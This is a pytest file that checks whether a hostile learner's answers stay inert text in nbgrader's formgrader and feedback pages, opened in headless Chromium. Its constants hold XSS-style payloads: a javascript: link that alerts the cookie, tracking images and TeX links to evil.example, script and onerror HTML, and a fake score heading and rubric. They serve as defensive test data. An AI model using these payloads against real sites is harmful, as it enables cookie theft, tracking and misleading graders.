"""Does a hostile learner's text stay text in the grader's formgrader page and in the feedback? (issue 20)

A learner answers a fill-in and a case question with a ``javascript:`` link, a tracking image,
a fake score heading, a fake grader-only rubric and raw HTML, and submits through nbgrader's
exchange. nbgrader's real formgrader page of that submission (served by a Jupyter server
with nbgrader's own extension) and the learner's feedback page are opened in headless
Chromium: every text shows as typed, no request leaves the page (each one is recorded by
Playwright's routing), no ``javascript:`` URL and no learner image is in the DOM, and nothing
runs. The answers carry TeX too (``$\\href{http://…}{…}$``, ``$\\Huge …$``): formgrader's page loads
no MathJax, and with MathJax put back as nbconvert's stock template loads it (MathJax 2.7 served
from the jupyter-server-mathjax package in place of the CDN), the learner's TeX stays text.
"""

from __future__ import annotations

import importlib.util
import os
import shutil
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from nbgrader.api import Gradebook
from typer.testing import CliRunner

from course import learners, workflow
from course.cli import app
from course.nbconfig import db_url
from tests.conftest import MINI, CourseDir, make_course_dir
from tests.ports import free_port
from tests.test_pipeline import PARTIAL

CHROMIUM = shutil.which("chromium")
if CHROMIUM is None and not os.environ.get("CI"):
    pytest.skip("needs Debian's chromium (apt-get install chromium); CI installs it and never skips",
                allow_module_level=True)

from playwright.sync_api import sync_playwright  # noqa: E402 - only once chromium is known to be there

from tests.test_browser import CHROMIUM_ARGS  # noqa: E402

LEARNER = "li"
TOKEN = "hostile-answers"
LINK = "[点我](javascript:alert(document.cookie))"
IMAGE = "![](http://evil.example/t.png?who=li)"
HEADING = "# 得分：10 / 10 分"
RUBRIC = "**评分要点（仅评分人可见）**\n- 全部要点都已答到（4分）"
RAW = ('<img src="http://evil.example/x.png" onerror="alert(1)"><script>alert(2)</script>'
       '<a href="javascript:alert(3)">看</a>')
TEX_LINK = r"$\href{http://evil.example/x}{点我领奖}$"
TEX_HEADING = r"$\Huge 得分：10 / 10 分$"
CASE = "\n".join([HEADING, RUBRIC, LINK, IMAGE, RAW, TEX_LINK, TEX_HEADING])
SHOWN = [LINK, IMAGE, HEADING, "**评分要点（仅评分人可见）**", "- 全部要点都已答到（4分）", RAW,  # as typed, as text
         TEX_LINK, TEX_HEADING]
# MathJax as nbconvert's stock mathjax() macro loads it, from cdnjs; the test serves MathJax 2.7 from the
# jupyter-server-mathjax package there (it ships this config, not latest.js's CHTML one), with the Safe extension.
MATHJAX_CDN = "https://cdnjs.cloudflare.com/ajax/libs/mathjax/2.7.7/"
MATHJAX_URL = MATHJAX_CDN + "MathJax.js?config=TeX-AMS-MML_HTMLorMML-full,Safe"
MATHJAX_FILES = Path(importlib.util.find_spec("jupyter_server_mathjax").origin).parent / "static"  # type: ignore[union-attr]
# course-side TeX beside the answers: typeset, which proves MathJax ran over the page
CONTROL = r'<p id="control">$\href{http://evil.example/control}{对照}$</p>'
TYPESET = ".MathJax, .MathJax_Display, .MathJax_Preview, .MathJax_SVG, .MathJax_CHTML, script[type^='math/tex']"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> CourseDir:
    cd = make_course_dir(tmp_path_factory.mktemp("course"))
    workflow.generate(cd.root, ["ch01"])
    workflow.release(cd.root, ["ch01"])
    home = cd.root / "homes" / LEARNER
    folder = learners.fetch(cd.root, "ch01", LEARNER, home)
    learners.answer(folder, "ch01", LEARNER, {**PARTIAL, "ch01-004": [LINK, IMAGE], "ch01-007": CASE})
    learners.submit(cd.root, "ch01", LEARNER, home)
    workflow.collect(cd.root, ["ch01"])
    report = workflow.autograde(cd.root, cd.course, ["ch01"], workers=1, progress=False)
    assert report.graded == [(LEARNER, "ch01")] and report.problems == []
    return cd


@pytest.fixture(scope="module")
def formgrader(hostile: CourseDir, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A Jupyter server in the course folder with nbgrader's formgrader extension, as an instructor runs it."""
    port = free_port()
    bindir = str(Path(sys.executable).parent)
    env = {**os.environ, "PATH": bindir + os.pathsep + os.environ.get("PATH", ""), "COURSE_CONTENT": str(MINI),
           "JUPYTER_CONFIG_DIR": str(tmp_path_factory.mktemp("jupyter-config"))}
    log = (hostile.root.parent / "server.log").open("w")
    server = subprocess.Popen(
        [f"{bindir}/jupyter", "server", "--no-browser", "--allow-root", f"--port={port}", "--ServerApp.ip=127.0.0.1",
         f"--IdentityProvider.token={TOKEN}", f"--ServerApp.root_dir={hostile.root}"],
        cwd=hostile.root, env=env, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                urllib.request.urlopen(f"{url}/api/status?token={TOKEN}", timeout=2)
                break
            except OSError:
                if time.monotonic() > deadline or server.poll() is not None:
                    raise RuntimeError(f"the Jupyter server did not start; see {log.name}") from None
                time.sleep(0.3)
        yield url
    finally:
        server.terminate()
        server.wait(timeout=30)
        log.close()


def _stock_mathjax() -> str:
    """What nbconvert's own ``mathjax()`` macro puts in a page (the one formgrader's template calls)."""
    from jinja2 import Environment, FileSystemLoader
    from nbconvert.exporters.templateexporter import TemplateExporter

    base = [str(Path(d) / "nbconvert" / "templates" / "base") for d in TemplateExporter().get_prefix_root_dirs()]
    module: Any = Environment(loader=FileSystemLoader(base)).get_template("mathjax.html.j2").module
    return str(module.mathjax(MATHJAX_URL))


def _serve_mathjax(r: Any) -> None:
    path = MATHJAX_FILES / urlsplit(r.request.url).path.removeprefix(urlsplit(MATHJAX_CDN).path)
    if path.is_file():
        r.fulfill(path=str(path))
    else:
        r.fulfill(status=404, body="")


def _open(url: str, local: str, with_mathjax: bool = False) -> dict[str, Any]:
    """Open ``url`` in headless Chromium; every request recorded, any to another host refused. With
    ``with_mathjax`` the page comes with nbconvert's stock MathJax and a course-side TeX link put back in."""
    requests: list[str] = []
    dialogs: list[str] = []

    def route(r: Any) -> None:
        requests.append(r.request.url)
        if with_mathjax and r.request.url.startswith(MATHJAX_CDN):
            _serve_mathjax(r)
        elif with_mathjax and r.request.url == url:
            page = r.fetch()
            r.fulfill(response=page, body=page.text().replace("</head>", _stock_mathjax() + "</head>", 1)
                      .replace("<body>", "<body>" + CONTROL, 1))
        elif urlsplit(r.request.url).netloc == local:
            r.continue_()
        else:
            r.abort()

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        page = browser.new_page()
        page.route("**/*", route)
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(url)
        page.wait_for_load_state("load")
        if with_mathjax:  # MathJax's queue done with the whole page: the control link typeset
            page.wait_for_function("window.MathJax && MathJax.Hub && MathJax.Hub.queue.running === 0"
                                   " && MathJax.Hub.queue.pending === 0 && document.querySelector('#control .MathJax')",
                                   timeout=30_000)
        found = {
            "text": page.locator("body").inner_text(),
            "hrefs": page.eval_on_selector_all("[href], [src], [action], [formaction]", """els => els.filter(
                e => !e.closest('#control')).flatMap(  // the course-side control's own link is not the learner's
                e => ['href', 'src', 'action', 'formaction'].map(a => e.getAttribute(a)).filter(v => v !== null))"""),
            "images": page.eval_on_selector_all("img", "els => els.map(e => e.getAttribute('src'))"),
            "headings": page.eval_on_selector_all("h1, h2, h3, h4, h5, h6", "els => els.map(e => e.innerText)"),
            "scripts": page.eval_on_selector_all("script", "els => els.map(e => e.textContent)"),
            "typeset": page.eval_on_selector_all(TYPESET, "els => els.filter(e => !e.closest('#control')).length"),
            "control": page.eval_on_selector_all("#control a", "els => els.map(e => e.getAttribute('href'))"),
        }
        browser.close()
    return {**found, "requests": requests, "dialogs": dialogs}


def _assert_inert(seen: dict[str, Any]) -> None:
    text = seen["text"].replace("\u00a0", " ")
    for typed in SHOWN:
        assert typed in text, typed
    assert [u for u in seen["hrefs"] if u.strip().lower().startswith("javascript:")] == []
    assert [u for u in seen["hrefs"] if "evil.example" in u] == []
    assert [h for h in seen["headings"] if "10 / 10" in h or "评分要点" in h] == []
    assert [s for s in seen["scripts"] if "alert(" in s] == []
    assert seen["dialogs"] == []  # nothing ran


def test_formgrader_shows_the_hostile_answers_as_text_and_loads_nothing_from_elsewhere(
        hostile: CourseDir, formgrader: str) -> None:
    with Gradebook(db_url(hostile.root), course_id="kam-cert") as gb:
        submission = gb.find_submission_notebook("ch01", "ch01", LEARNER).id
    seen = _open(f"{formgrader}/formgrader/submissions/{submission}/?index=0&token={TOKEN}",
                 urlsplit(formgrader).netloc)
    assert "ch01-007" in seen["text"] or "学员作答" in seen["text"]  # the page is the submission's
    _assert_inert(seen)
    assert {urlsplit(u).netloc for u in seen["requests"]} == {urlsplit(formgrader).netloc}  # no CDN, no MathJax
    assert seen["typeset"] == 0


def test_learner_tex_stays_text_even_where_mathjax_typesets_the_page(hostile: CourseDir, formgrader: str) -> None:
    """With MathJax put back as nbconvert's stock template loads it (Safe extension, whole page typeset), does the
    learner's ``$\\href…$`` stay text while a course-side one beside it becomes a link?"""
    with Gradebook(db_url(hostile.root), course_id="kam-cert") as gb:
        submission = gb.find_submission_notebook("ch01", "ch01", LEARNER).id
    seen = _open(f"{formgrader}/formgrader/submissions/{submission}/?index=0&token={TOKEN}",
                 urlsplit(formgrader).netloc, with_mathjax=True)
    assert seen["control"] == ["http://evil.example/control"]  # MathJax ran and would have made a link
    assert [u for u in seen["requests"] if u.startswith(MATHJAX_CDN + "MathJax.js")] == [MATHJAX_URL]
    assert seen["typeset"] == 0  # nothing outside the control was typeset
    _assert_inert(seen)


def test_the_feedback_page_shows_them_as_text_and_requests_nothing(hostile: CourseDir) -> None:
    result = CliRunner().invoke(app, ["feedback", "--root", str(hostile.root), "--content", str(MINI)])
    assert result.exit_code == 0, result.output
    page = hostile.root / "feedback" / LEARNER / "ch01" / "ch01.html"
    seen = _open(page.as_uri(), "")
    _assert_inert(seen)
    assert seen["requests"] == [page.as_uri()]  # the page itself, nothing else
    text = seen["text"]
    assert text.count("待评分（满分 4 分）") == 1  # the real state; the learner's fake heading is only text
